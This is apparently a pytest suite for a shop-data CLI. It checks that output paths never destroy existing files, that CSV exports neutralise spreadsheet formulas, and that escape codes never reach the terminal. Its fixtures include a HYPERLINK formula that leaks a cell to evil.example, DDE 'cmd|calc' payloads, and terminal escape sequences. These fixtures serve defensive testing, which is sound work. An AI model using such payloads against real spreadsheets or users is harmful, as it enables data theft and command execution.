"""Issue 10, outputs never destroy: every --output through the real CLI (typer's runner).

train/report/bundles/rules/rejects refuse paths that would destroy a file before doing any work;
CSV cells a spreadsheet would run are neutralised; escape codes from the data never reach the terminal.
"""

from __future__ import annotations

import time
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from bundlewise.cli.app import app
from bundlewise.ingest import Warehouse
from tests.bundles.test_pipeline import build_store

runner = CliRunner()

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _invoke(*args: str):
    return runner.invoke(app, [str(a) for a in args])


def _orders_db(tmp_path: Path, write_csv, rows=None, name: str = "orders.csv") -> tuple[str, Path]:
    db = str(tmp_path / "shop.duckdb")
    path = write_csv(name, ["order_id", "product_id", "title", "quantity"],
                     rows or [["1", "a", "tea", "1"], ["1", "b", "pot", "1"], ["2", "a", "tea", "1"]])
    result = _invoke("--db", db, "-q", "ingest", "orders", path, "--on-error", "quarantine")
    assert result.exit_code == 0, result.output
    return db, path


def _listing(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# --- train --output: checked before training, never deletes --------------------------------------------------


def test_train_output_dot_refuses_and_deletes_nothing(tmp_path: Path, write_csv, monkeypatch) -> None:
    db, _ = _orders_db(tmp_path, write_csv)
    monkeypatch.chdir(tmp_path)
    before = _listing(tmp_path)
    started = time.perf_counter()
    result = _invoke("--db", db, "-q", "train", "--output", ".", "--epochs", "1")
    assert result.exit_code == 1, result.output
    assert "holds the warehouse" in result.output and "pick a new folder name" in result.output
    assert time.perf_counter() - started < 10  # refused before any embedding or training
    assert _listing(tmp_path) == before
    with Warehouse(db, read_only=True) as wh:
        assert wh.counts()["order_lines"] == 3


def test_train_output_user_folder_refuses_and_deletes_nothing(tmp_path: Path, write_csv) -> None:
    db, _ = _orders_db(tmp_path, write_csv)
    docs = tmp_path / "mydocs"
    (docs / "sub").mkdir(parents=True)
    (docs / "letter.txt").write_text("dear shop")
    (docs / "sub" / "model.json").write_text('{"not": "ours"}')
    before = _listing(docs)
    result = _invoke("--db", db, "-q", "train", "--output", docs, "--epochs", "1")
    assert result.exit_code == 1, result.output
    assert "not a pair-model checkpoint" in result.output and "'letter.txt'" in result.output
    assert "never deletes" in result.output
    assert _listing(docs) == before
    a_file = tmp_path / "notes.txt"
    a_file.write_text("x")
    result = _invoke("--db", db, "-q", "train", "--output", a_file)
    assert result.exit_code == 1 and "is an existing file" in result.output and a_file.read_text() == "x"


def test_train_output_checkpoint_with_user_files_refused(tmp_path: Path, write_csv) -> None:
    db, _ = _orders_db(tmp_path, write_csv)
    ckpt = tmp_path / "pm"
    ckpt.mkdir()
    (ckpt / "model.json").write_text('{"format": 1, "bundlewise_version": "0.1.0"}')
    (ckpt / "my-notes.md").write_text("keep me")
    result = _invoke("--db", db, "-q", "train", "--output", ckpt)
    assert result.exit_code == 1 and "holds a checkpoint and other files ('my-notes.md')" in result.output
    assert (ckpt / "my-notes.md").read_text() == "keep me"


# --- report / bundles / rules / rejects --output ---------------------------------------------------------------


def test_report_output_warehouse_refused_and_the_warehouse_still_opens(tmp_path: Path, write_csv,
                                                                       monkeypatch) -> None:
    db, _ = _orders_db(tmp_path, write_csv)
    monkeypatch.chdir(tmp_path)
    before = Path(db).read_bytes()
    for given in (db, "shop.duckdb", "./shop.duckdb"):
        result = _invoke("--db", db, "-q", "report", "--output", given)
        assert result.exit_code == 1, result.output
        assert "is the warehouse" in result.output and "Traceback" not in result.output
    assert Path(db).read_bytes() == before
    with Warehouse(db, read_only=True) as wh:
        assert wh.counts()["order_lines"] == 3
    other = tmp_path / "other.html"
    result = _invoke("--db", db, "-q", "report", "--output", tmp_path / "missing" / "r.html")
    assert result.exit_code == 1 and "does not exist; create it first" in result.output
    result = _invoke("--db", db, "-q", "bundles", "--output", db)
    assert result.exit_code == 1 and "is the warehouse" in result.output
    result = _invoke("--db", db, "-q", "bundles", "--output", tmp_path / "plan.duckdb")
    assert result.exit_code == 1 and "allowed suffixes are '.csv', '.json'" in result.output
    result = _invoke("--db", db, "-q", "report", "--output", tmp_path / "r.csv")
    assert result.exit_code == 1 and "allowed suffixes are '.html', '.htm'" in result.output
    assert not other.exists()


def test_bundles_csv_neutralises_formula_titles(tmp_path: Path) -> None:
    import json

    products, orders = build_store(tmp_path, n_weeks=8, per_week=80)
    table = pd.read_csv(products)
    evil = {"tent": EVIL_TITLE, "pegs": "@SUM(1+1)*cmd|' /C calc'!A0", "lamp": "+lamp", "stove": "-stove"}
    table["title"] = [evil.get(p, t) for p, t in zip(table.product_id, table.title, strict=True)]
    table.to_csv(products, index=False)
    db = str(tmp_path / "store.duckdb")
    for kind, file in (("products", products), ("orders", orders)):
        assert _invoke("--db", db, "-q", "ingest", kind, file).exit_code == 0
    out = tmp_path / "plan.csv"
    result = _invoke("--db", db, "-q", "bundles", "--min-count", "5", "--all", "--output", out)
    assert result.exit_code == 0, result.output
    plan = pd.read_csv(out, keep_default_na=False, dtype=str)
    cells = plan.to_numpy().ravel().tolist()
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]  # nothing a spreadsheet would run
    assert all(float(c) < 0 for c in cells if c.startswith("-"))  # genuine negative numbers are untouched
    # the same plan as JSON (exact values, not for spreadsheets): each formula-like title cell is quoted in the CSV
    as_json = tmp_path / "plan.json"
    assert _invoke("--db", db, "-q", "bundles", "--min-count", "5", "--all", "--output", as_json).exit_code == 0
    joined = [" + ".join(r["titles"]) for r in json.loads(as_json.read_text(encoding="utf-8"))]
    risky = [t for t in joined if t[:1] in "=+-@"]
    assert risky and plan["titles"].tolist() == [("'" + t if t in risky else t) for t in joined]


def test_rules_output_refuses_its_input_and_neutralises(tmp_path: Path) -> None:
    baskets = tmp_path / "baskets.csv"
    baskets.write_text("=cmd|' /C calc'!A0,@SUM(A1)\n" * 5 + "=cmd|' /C calc'!A0,milk\n")
    before = baskets.read_bytes()
    result = _invoke("-q", "rules", "--baskets", baskets, "--min-support", "0.5", "--min-confidence", "0.5",
                     "--output", baskets)
    assert result.exit_code == 1 and "is an input file of this command" in result.output
    assert baskets.read_bytes() == before
    out = tmp_path / "rules.csv"
    result = _invoke("-q", "rules", "--baskets", baskets, "--min-support", "0.5", "--min-confidence", "0.5",
                     "--output", out)
    assert result.exit_code == 0, result.output
    rules = pd.read_csv(out)
    assert len(rules) and rules["antecedent"].str.contains("=cmd").any()
    assert not rules[["antecedent", "consequent"]].map(lambda c: c[:1] in "=+-@").to_numpy().any()
    result = _invoke("-q", "rules", "--baskets", baskets, "--output", tmp_path / "rules.xlsx")
    assert result.exit_code == 1 and "allowed suffixes are '.csv', '.parquet'" in result.output


def test_rejects_csv_neutralised_raw_exact_and_sources_protected(tmp_path: Path, write_csv) -> None:
    db, source = _orders_db(tmp_path, write_csv, rows=[["1", "a", "tea", "1"], ["2", "b", EVIL_TITLE, "=1+1"],
                                                       ["3", "c", "jam", "-2x"]])
    out = tmp_path / "rejects.csv"
    result = _invoke("--db", db, "rejects", "--output", out)
    assert result.exit_code == 0, result.output
    table = pd.read_csv(out, keep_default_na=False)
    assert "'=1+1" in table["value"].tolist() and "'-2x" in table["value"].tolist()
    assert not [c for c in map(str, table.to_numpy().ravel()) if c[:1] in ("=", "+", "-", "@")]
    fix = tmp_path / "fix.csv"
    result = _invoke("--db", db, "rejects", "--raw", "--output", fix)
    assert result.exit_code == 0, result.output
    raw = pd.read_csv(fix, dtype=str)
    assert raw["quantity"].tolist() == ["=1+1", "-2x"] and raw["title"].tolist()[0] == EVIL_TITLE  # exact
    assert "cells start with = + - @" in result.output and "edit the file as text" in result.output
    before = source.read_bytes()
    result = _invoke("--db", db, "rejects", "--raw", "--output", source)  # the original export
    assert result.exit_code == 1 and "is an input file of this command" in result.output
    assert source.read_bytes() == before


def test_rejects_raw_writes_one_file_per_ingest(tmp_path: Path, write_csv) -> None:
    db, _ = _orders_db(tmp_path, write_csv, rows=[["1", "a", "tea", "1"], ["2", "b", "pot", "two"]])
    second = write_csv("more.csv", ["order_id", "product_id", "quantity", "note"],
                       [["5", "a", "1", ""], ["6", "c", "lots", "late"]])
    assert _invoke("--db", db, "-q", "ingest", "orders", second, "--on-error", "quarantine").exit_code == 0
    fix = tmp_path / "fix.csv"
    result = _invoke("--db", db, "rejects", "--raw", "--output", fix)
    assert result.exit_code == 0, result.output
    first, other = tmp_path / "fix-1-orders.csv", tmp_path / "fix-2-orders.csv"
    assert not fix.exists() and first.exists() and other.exists()
    assert str(first) in result.output.replace("\n", "") and "ingest #2 (orders)" in result.output
    assert first.read_text().splitlines() == ["order_id,product_id,title,quantity", "2,b,pot,two"]
    assert other.read_text().splitlines() == ["order_id,product_id,quantity,note", "6,c,lots,late"]
    other.write_text("order_id,product_id,quantity,note\n6,c,3,late\n")  # fixed, ingested again on its own
    again = _invoke("--db", db, "-q", "ingest", "orders", other)
    assert again.exit_code == 0, again.output
    with Warehouse(db, read_only=True) as wh:
        assert wh.con.execute("SELECT quantity FROM order_lines WHERE order_id = '6'").fetchall() == [(3.0,)]


def test_interrupted_rejects_write_leaves_the_old_file(tmp_path: Path, write_csv, monkeypatch) -> None:
    import errno
    import os

    from bundlewise.cli import stats as stats_cli

    db, _ = _orders_db(tmp_path, write_csv, rows=[["1", "a", "tea", "lots"]])
    out = tmp_path / "rejects.csv"
    out.write_text("yesterday's export\n")

    class FullDisk:
        def __init__(self, frame):
            self.frame = frame

        def to_csv(self, path, **kwargs):
            Path(path).write_text("order_id,prod")  # half written, then the disk is full
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(stats_cli, "neutralise_frame", FullDisk)
    result = _invoke("--db", db, "rejects", "--output", out)
    assert result.exit_code == 1, result.output
    assert "No space left on device" in result.output and "unchanged" in result.output
    assert "bug" not in result.output
    assert out.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temp file left


# --- terminal output -------------------------------------------------------------------------------------------


def test_escape_codes_in_titles_and_values_do_not_reach_the_terminal(tmp_path: Path, write_csv) -> None:
    evil = "\x1b[2J\x1b]0;owned\x07GREEN\x1b[31m TEA [/bold] [link=http://x]y[/link]\x9b1m"
    db, _ = _orders_db(tmp_path, write_csv, rows=[["1", "a", evil, "1"], ["1", "b", "pot", "1"],
                                                  ["2", "a", evil, "1"], ["3", "c", "cup", "\x1b[5mlots"]])
    for args in (["stats"], ["rejects"], ["mine", "--min-count", "1"]):
        result = _invoke("--db", db, *args)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output and "\x9b" not in result.output
    stats = _invoke("--db", db, "stats").output
    assert "GREEN TEA [/bold]" in stats  # shown as text, not as markup
    assert "lots" in _invoke("--db", db, "rejects").output
    assert "GREEN" in _invoke("--db", db, "mine", "--min-count", "1").output


@pytest.mark.parametrize("name", ["x.parquet", "x.json"])
def test_rejects_output_suffix_and_folder_checked_first(tmp_path: Path, write_csv, name: str) -> None:
    db, _ = _orders_db(tmp_path, write_csv, rows=[["1", "a", "tea", "lots"]])
    result = _invoke("--db", db, "rejects", "--output", tmp_path / name)
    if name.endswith(".parquet"):
        assert result.exit_code == 0 and pd.read_parquet(tmp_path / name)["value"].tolist() == ["lots"]
    else:
        assert result.exit_code == 1 and "allowed suffixes are '.csv', '.parquet'" in result.output
    (tmp_path / "d.csv").mkdir()
    result = _invoke("--db", db, "rejects", "--output", tmp_path / "d.csv")
    assert result.exit_code == 1 and "is an existing folder" in result.output
